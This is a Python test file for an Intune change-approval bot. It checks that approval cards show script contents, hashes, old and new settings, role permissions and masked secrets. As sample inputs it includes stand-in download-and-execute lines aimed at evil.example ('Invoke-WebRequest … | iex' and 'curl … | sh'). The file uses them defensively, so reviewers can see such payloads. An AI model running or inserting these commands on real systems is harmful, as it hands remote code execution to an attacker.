"""Every type of object that Intune holds back: its card shows old and new values, scripts, and targets."""

import hashlib
import json
import re
from typing import Any

import pytest

from simulator import further_inventory as inventory
from simulator.inventory import encoded
from simulator.world import guid
from tests.office import Office, day_with, text_of, verbs_of

EVIL = "Invoke-WebRequest https://evil.example/x.ps1 | iex\n"
MANAGEMENT, APPS = "deviceManagement", "deviceAppManagement/mobileApps"
LAPTOPS = "All-Windows-Laptops"
HELPDESK = guid("role", "Branch Helpdesk")


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def reaching(day: Office, group: str = LAPTOPS, **more: Any) -> dict[str, Any]:
    """Return an assignment to a group."""
    kind = "#microsoft.graph.groupAssignmentTarget"
    return {"target": {"@odata.type": kind, "groupId": day.tenant.world.group(group).id}, **more}


def protected(day: Office) -> None:
    """Let Intune hold back every type."""
    for policy_type in ("app", "configurationPolicy", "tenantConfiguration", "deviceDeprovision"):
        day.tenant.world.protect(policy_type, "Security-Admins")
    for policy in day.tenant.world.policies.values():
        policy.platform = "notApplicable"


async def details_of(day: Office) -> str:
    """Poll, and return the text of the one card and of its Details as an approver sees them."""
    await day.poll()
    [card] = day.requests()
    assert "not known here" not in text_of(card.card)
    assert "Could not be read" not in text_of(card.card)
    return text_of(card.card) + text_of((await day.click("ivan", "details", card)).card)


def facts_in(card: str, *told: str) -> None:
    """Check that the card contains these texts, without the signs that escape Markdown."""
    for one in told:
        assert json.dumps(one, ensure_ascii=False)[1:-1] in card.replace("\\\\", ""), one


@pytest.fixture
def file(day: Office) -> Any:
    """Return the portal of a tenant that holds back every type."""
    protected(day)
    return day.tenant.portal


EVERYONE_DECIDES = day_with(everythingElse={"approverGroups": ["IT-Directors"]})


@EVERYONE_DECIDES
async def test_an_app_is_changed(day: Office, file: Any) -> None:
    """The card of a changed app shows the new command, the new detection rule, and the install scripts that the app
    only names."""
    app = next(iter(day.tenant.world.objects["mobileApps"].values()))
    rule = {"@odata.type": "#microsoft.graph.win32LobAppPowerShellScriptDetection", "scriptContent": encoded(EVIL)}
    patch = {
        "installCommandLine": "powershell.exe -File other.ps1",
        "detectionRules": [rule, *app["detectionRules"]],
    }
    file.file_change("rita", APPS, "7-Zip", patch, "New version")
    card = await details_of(day)
    facts_in(card, "Update app 7-Zip", "Install command line", "powershell.exe -File other.ps1", "-File install.ps1")
    facts_in(card, f"new, 1 line, SHA-256 {sha(EVIL)}", "Install script", "install.ps1: 1 line", "Enough room: 1 line")
    facts_in(card, "Invoke-WebRequest", "Start-Process msiexec", "Test-Path")
    # The old rule has only moved, which is no change.
    assert set(re.findall(r"Detection rules \d: [\w ]+", card)) == {"Detection rules 1: type"}


@EVERYONE_DECIDES
async def test_an_app_is_made(day: Office, file: Any) -> None:
    """The card of a new app shows its type and both installation scripts, but not the whole icon."""
    body = {
        "@odata.type": "#microsoft.graph.macOSPkgApp",
        "displayName": "Agent",
        "publisher": "ACME",
        "largeIcon": {"type": "image/png", "value": "A" * 4000},
        "preInstallScript": {"scriptContent": encoded("#!/bin/sh\nbefore\n")},
        "postInstallScript": {"scriptContent": encoded("#!/bin/sh\nafter\n")},
    }
    file.file_new("rita", APPS, body, "New")
    card = await details_of(day)
    facts_in(card, "Create app Agent", "macOSPkgApp", "Pre-install script", "Post-install script", "before", "after")
    assert "A" * 400 not in card


@EVERYONE_DECIDES
async def test_an_app_is_assigned(day: Office, file: Any) -> None:
    """The card of an app's assignment shows the group and the intent."""
    body = {"mobileAppAssignments": [reaching(day, intent="required")]}
    file.file_call("rita", APPS, "7-Zip", "assign", body, "All laptops")
    card = await details_of(day)
    facts_in(card, f"Assign app 7-Zip to {LAPTOPS}", "Will reach", "Required")


@EVERYONE_DECIDES
async def test_an_app_replaces_another(day: Office, file: Any) -> None:
    """The card of an app that replaces another shows the other app's name."""
    other = guid("mobileApps", "Company Portal for Mac")
    relation = {
        "@odata.type": "#microsoft.graph.mobileAppSupersedence",
        "targetId": other,
        "targetDisplayName": "Company Portal for Mac",
        "supersedenceType": "replace",
    }
    file.file_call("rita", APPS, "7-Zip", "updateRelationships", {"relationships": [relation]}, "Old")
    facts_in(await details_of(day), "Relationship to Company Portal for Mac", "replace")


@EVERYONE_DECIDES
async def test_an_app_is_deleted(day: Office, file: Any) -> None:
    """The card of a deleted app says what is lost, and that it cannot be restored."""
    file.file_removal("rita", APPS, "7-Zip", "Unused")
    card = await details_of(day)
    facts_in(card, "Delete app 7-Zip", "The app and its assignments are deleted. Nothing brings them back.")


SCRIPTS = {
    "deviceShellScripts": ("Rotate logs", "scriptContent", "Update shell script Rotate logs", "Script"),
    "deviceCustomAttributeShellScripts": (
        "Battery cycles",
        "scriptContent",
        "Update custom attribute script Battery cycles",
        "Script",
    ),
    "deviceComplianceScripts": (
        "BIOS version",
        "detectionScriptContent",
        "Update compliance script BIOS version",
        "Detection script",
    ),
}


@pytest.mark.parametrize("segment", SCRIPTS)
async def test_scripts_of_other_kinds(day: Office, segment: str) -> None:
    """Other kinds of scripts fall under the workflow for scripts. Details show the new script with its hash, and the
    old hash."""
    protected(day)
    name, member, title, label = SCRIPTS[segment]
    before = next(iter(day.tenant.world.objects[segment].values()))[member]
    day.tenant.portal.file_change("rita", f"{MANAGEMENT}/{segment}", name, {member: encoded(EVIL)}, "Fix")
    await day.poll()
    card = day.card("Change Advisory Board")
    shown = text_of((await day.click("cora", "details", card)).card)
    facts_in(shown, title, label, f"1 line, SHA-256 {sha(EVIL)}", "Invoke-WebRequest")
    assert before not in shown
    assert "SHA-256" in shown.split("→")[0]


@EVERYONE_DECIDES
async def test_a_policy_of_the_settings_catalogue(day: Office, file: Any) -> None:
    """A settings catalogue policy is shown with the names of its settings, new rules as their own lines, and no
    secret."""
    rules = [[inventory.simple(f"{inventory.FIREWALL}_name", name)] for name in ("Mail", "Web")]
    rules[1].append(inventory.choice(inventory.CAMERA, f"{inventory.CAMERA}_1"))
    settings = inventory.settings(
        inventory.simple(inventory.LINUX_SCRIPT, "on"),
        inventory.choice(inventory.CAMERA, f"{inventory.CAMERA}_1"),
        inventory.group(inventory.FIREWALL, *rules),
        inventory.simple(inventory.WIFI_KEY, "hunter3", "Secret"),
    )
    patch = {"name": "Windows hardening", "settings": settings}
    file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Windows hardening", patch, "Meetings")
    card = await details_of(day)
    facts_in(card, "Update configuration policy Windows hardening", "Allow camera", "Not allowed → Allowed")
    facts_in(card, "Firewall rules 1: Name", "Mail", "a secret, not shown, which may have changed")
    assert "Web" not in card
    assert "hunter" not in card


@EVERYONE_DECIDES
async def test_names_that_are_hidden_today_void_no_vote(day: Office, file: Any) -> None:
    """If names of settings cannot be read, their ids are shown, and no vote becomes void."""
    patch = {"settings": inventory.settings(inventory.choice(inventory.CAMERA, f"{inventory.CAMERA}_1"))}
    file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Windows hardening", patch, "Meetings")
    await day.poll()
    [card] = day.requests()
    before = await day.bot.store.requests.load(await day.request_id())
    day.tenant.world.definitions["configurationSettings"].clear()
    await day.pass_time(minutes=1)
    await day.poll()
    after = await day.bot.store.requests.load(await day.request_id())
    assert before is not None
    assert after is not None
    assert after.digest == before.digest
    facts_in(text_of((await day.click("ivan", "details", card)).card), f"{inventory.CAMERA}_1")


@EVERYONE_DECIDES
async def test_a_linux_script_in_the_settings_catalogue(day: Office, file: Any) -> None:
    """A Linux script in the settings catalogue is shown like any other script."""
    text = "#!/bin/sh\ncurl https://evil.example | sh\n"
    patch = {"settings": inventory.settings(inventory.simple(inventory.LINUX_SCRIPT, encoded(text)))}
    file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Linux updates", patch, "Update")
    facts_in(await details_of(day), f"2 lines, SHA-256 {sha(text)}", "curl https://evil.example | sh")


async def test_a_compliance_policy_of_the_settings_catalogue(day: Office) -> None:
    """A compliance policy of the settings catalogue falls under the workflow for compliance, even if Intune gives it
    the general type name. A script that it only names is shown."""
    protected(day)
    place = f"{MANAGEMENT}/compliancePolicies"
    filed = day.tenant.portal.file_change("rita", place, "Linux disks", {"description": "x"}, "Words")
    name = "Microsoft.Management.Services.Api.IDeviceManagementPolicy"
    day.tenant.graph.knobs.shown_fields[filed] = {"payloadType": name}
    await day.poll()
    [card] = day.requests()
    shown = text_of((await day.click("olga", "details", card)).card)
    facts_in(shown, "Update compliance policy Linux disks", "Discovery script", "lsblk --json")


@EVERYONE_DECIDES
async def test_a_script_that_is_only_named_and_hidden(day: Office, file: Any) -> None:
    """If a script that is only named cannot be read, the card says which one."""
    day.tenant.world.app_scripts.clear()
    file.file_change("rita", APPS, "7-Zip", {"description": "x"}, "Words")
    await day.poll()
    [card] = day.requests()
    assert f"the script {guid('app-script', 'install')}" in text_of(card.card)


@EVERYONE_DECIDES
async def test_a_custom_profile(day: Office, file: Any) -> None:
    """A custom profile shows each OMA-URI with its value, from old to new."""
    profile = next(iter(day.tenant.world.objects["deviceConfigurations"].values()))
    layout, telemetry = profile["omaSettings"]
    text = "<Layout>\n  <Pin app='evil'/>\n</Layout>\n"
    patch = {
        "@odata.type": "#microsoft.graph.windows10CustomConfiguration",
        "omaSettings": [{**layout, "value": encoded(text)}, {**telemetry, "value": 3}],
    }
    file.file_change("rita", f"{MANAGEMENT}/deviceConfigurations", "Start menu", patch, "Pins")
    card = await details_of(day)
    facts_in(card, "Update configuration profile Start menu", f"{layout['omaUri']}: SHA-256")
    facts_in(card, f"3 lines, SHA-256 {sha(text)}")
    facts_in(card, "OMA settings 2: value", "1 → 3", "<Pin app='evil'/>")


@EVERYONE_DECIDES
async def test_a_profile_of_a_mac_keeps_its_secrets(day: Office, file: Any) -> None:
    """The text of a Mac profile is shown without the network's password."""
    file.file_removal("rita", f"{MANAGEMENT}/deviceConfigurations", "Wi-Fi for Macs", "Old")
    card = await details_of(day)
    facts_in(card, "Delete configuration profile Wi-Fi for Macs", "<key>Password</key>")
    assert "hunter" not in card


@EVERYONE_DECIDES
async def test_an_administrative_template(day: Office, file: Any) -> None:
    """An administrative template shows the name of the setting that is switched off."""
    [admx] = day.tenant.world.objects["groupPolicyConfigurations"].values()
    body = {
        "added": [],
        "updated": [{"id": admx["definitionValues"][0]["id"], "enabled": False}],
        "deletedIds": [],
    }
    place = f"{MANAGEMENT}/groupPolicyConfigurations"
    file.file_call("rita", place, "Browser", "updateDefinitionValues", body, "No home page")
    card = await details_of(day)
    facts_in(card, "Update administrative template Browser", "Set the home page (machine)", "enabled → disabled")


@EVERYONE_DECIDES
async def test_a_security_baseline(day: Office, file: Any) -> None:
    """A security baseline shows the name of the setting from its template."""
    body = {"settings": [{"definitionId": inventory.ENCRYPT, "valueJson": "false"}]}
    place = f"{MANAGEMENT}/intents"
    file.file_call("rita", place, "Windows baseline 24H2", "updateSettings", body, "Old laptops")
    card = await details_of(day)
    facts_in(card, "Update security baseline Windows baseline 24H2", "Encrypt devices", "yes → no")


OTHERS: dict[str, tuple[str, dict[str, Any], str, list[str]]] = {
    "deviceEnrollmentConfigurations": (
        "Personal devices",
        {"platformRestriction": {"platformBlocked": False, "personalDeviceEnrollmentBlocked": False}},
        "Update enrollment configuration Personal devices",
        ["Platform restriction: personal device enrollment blocked", "yes → no"],
    ),
    "windowsAutopilotDeploymentProfiles": (
        "Laptops",
        {"outOfBoxExperienceSetting": {"userType": "administrator", "escapeLinkHidden": True}},
        "Update Autopilot profile Laptops",
        ["standard → administrator"],
    ),
    "windowsFeatureUpdateProfiles": (
        "Windows 11",
        {"featureUpdateVersion": "Windows 11, version 26H2"},
        "Update feature update profile Windows 11",
        ["version 25H2 → Windows 11, version 26H2"],
    ),
    "windowsQualityUpdateProfiles": (
        "Expedited",
        {"expeditedUpdateSettings": {"qualityUpdateRelease": "2026-10-13", "daysUntilForcedReboot": 0}},
        "Update quality update profile Expedited",
        ["2 → 0"],
    ),
    "windowsQualityUpdatePolicies": (
        "Hotpatch",
        {"hotpatchEnabled": False},
        "Update quality update policy Hotpatch",
        ["yes → no"],
    ),
    "windowsDriverUpdateProfiles": (
        "Drivers",
        {"approvalType": "automatic"},
        "Update driver update profile Drivers",
        ["manual → automatic"],
    ),
    "deviceCategories": (
        "Kiosks",
        {"displayName": "Kiosk devices"},
        "Update device category Kiosks",
        ["Kiosks → Kiosk devices"],
    ),
}


@EVERYONE_DECIDES
@pytest.mark.parametrize("segment", OTHERS)
async def test_other_types(day: Office, file: Any, segment: str) -> None:
    """Other types have a title, and show old and new values."""
    name, patch, title, told = OTHERS[segment]
    file.file_change("rita", f"{MANAGEMENT}/{segment}", name, patch, "Because")
    facts_in(await details_of(day), title, *told)


def assigned(day: Office) -> None:
    """File a role assignment for the night shift."""
    body = {
        "@odata.type": "#microsoft.graph.deviceAndAppManagementRoleAssignment",
        "displayName": "Night helpdesk",
        "members": [day.tenant.world.group("Night-Shift").id],
        "resourceScopes": [day.tenant.world.group(LAPTOPS).id],
        "roleDefinition@odata.bind": f"https://graph.microsoft.com/beta/deviceManagement/roleDefinitions('{HELPDESK}')",
    }
    day.tenant.portal.file_new("rita", f"{MANAGEMENT}/roleAssignments", body, "Nights")


async def test_an_assignment_of_a_role(day: Office) -> None:
    """A role assignment shows by name who gets which role, what it allows, and over whom."""
    assigned(day)
    await day.poll()
    [card] = day.requests()
    facts_in(text_of(card.card), "Create role assignment Night helpdesk", "Will hold the role", "Night-Shift", "Over")
    facts_in(text_of(card.card), "Role definition", "Branch Helpdesk", "Permissions", "Remote tasks: remote lock")
    assert day.tenant.world.group(LAPTOPS).id not in text_of(card.card)


async def test_an_access_policy_gets_other_approvers(day: Office) -> None:
    """A changed access policy shows who will approve, and who will no longer approve."""
    day.tenant.portal.file_policy_change("rita", "deviceWipe", ["Security-Team", "IT-Directors"], "Too slow")
    await day.poll()
    [card] = day.requests()
    said = text_of(card.card)
    facts_in(said, "Update access policy Device wipe", "Will approve", "Security-Team", "IT-Directors")
    facts_in(said, "Approved until now", "Device-Managers")
    assert said.index("Device-Managers (") > said.index("IT-Directors (")


async def test_a_role_that_is_given_and_becomes_another(day: Office) -> None:
    """If the assigned role itself changes, the digest changes, so earlier votes do not count for it."""
    assigned(day)
    await day.poll()
    before = await day.bot.store.requests.load(await day.request_id())
    role = day.tenant.world.role_definitions[HELPDESK]
    allowed = {"allowedResourceActions": ["Microsoft.Intune_RemoteTasks_Wipe"], "notAllowedResourceActions": []}
    role["rolePermissions"] = [{"resourceActions": [allowed]}]
    await day.pass_time(minutes=1)
    await day.poll()
    after = await day.bot.store.requests.load(await day.request_id())
    assert before is not None
    assert after is not None
    assert after.digest != before.digest


async def test_a_role_that_is_given_and_hidden(day: Office) -> None:
    """If the assigned role cannot be read, the card says which one."""
    assigned(day)
    day.tenant.world.role_definitions.clear()
    await day.poll()
    [card] = day.requests()
    facts_in(text_of(card.card), f"the role {HELPDESK}")


@EVERYONE_DECIDES
async def test_deprovisioning_a_device(day: Office, file: Any) -> None:
    """Deprovisioning a device is shown as an action, in words of its own."""
    device = day.tenant.world.device("PC-1")
    path = f"/deviceManagement/managedDevices/{device['id']}/deprovision"
    file.file("rita", "POST", path, {"deprovisionReason": "Sold"}, "Sold")
    card = await details_of(day)
    facts_in(card, "Deprovision PC-1", "The device is taken out of management")


@EVERYONE_DECIDES
async def test_a_type_that_nobody_knows(day: Office, file: Any) -> None:
    """The card of an unknown type says so, shows what was filed under Details, and can be decided."""
    filed = file.file_change("rita", f"{MANAGEMENT}/deviceCategories", "Kiosks", {"description": "x"}, "Words")
    name = "Microsoft.Management.Services.Api.QuantumPolicy"
    day.tenant.graph.knobs.shown_fields[filed] = {"payloadType": name}
    await day.poll()
    [card] = day.requests()
    facts_in(text_of(card.card), "QuantumPolicy, a type that Countersign does not know", "not known here")
    shown = text_of((await day.click("ivan", "details", card)).card)
    facts_in(shown, "What was filed", "patchPayload")
    assert "approve" in verbs_of(card.card)
    assert "What was filed" not in text_of((await day.click("rita", "details", card)).card)


@day_with(channels=[])
async def test_a_type_of_no_workflow_is_not_passed_over(day: Office) -> None:
    """A request that no workflow covers, where there is no general channel, is posted in the operations channel and
    decided in Intune."""
    protected(day)
    day.tenant.portal.file_change("rita", APPS, "7-Zip", {"description": "x"}, "Words")
    await day.poll()
    card = day.card("Operations")
    facts_in(text_of(card.card), "Update app 7-Zip", "No approver group is configured for this kind of request.")
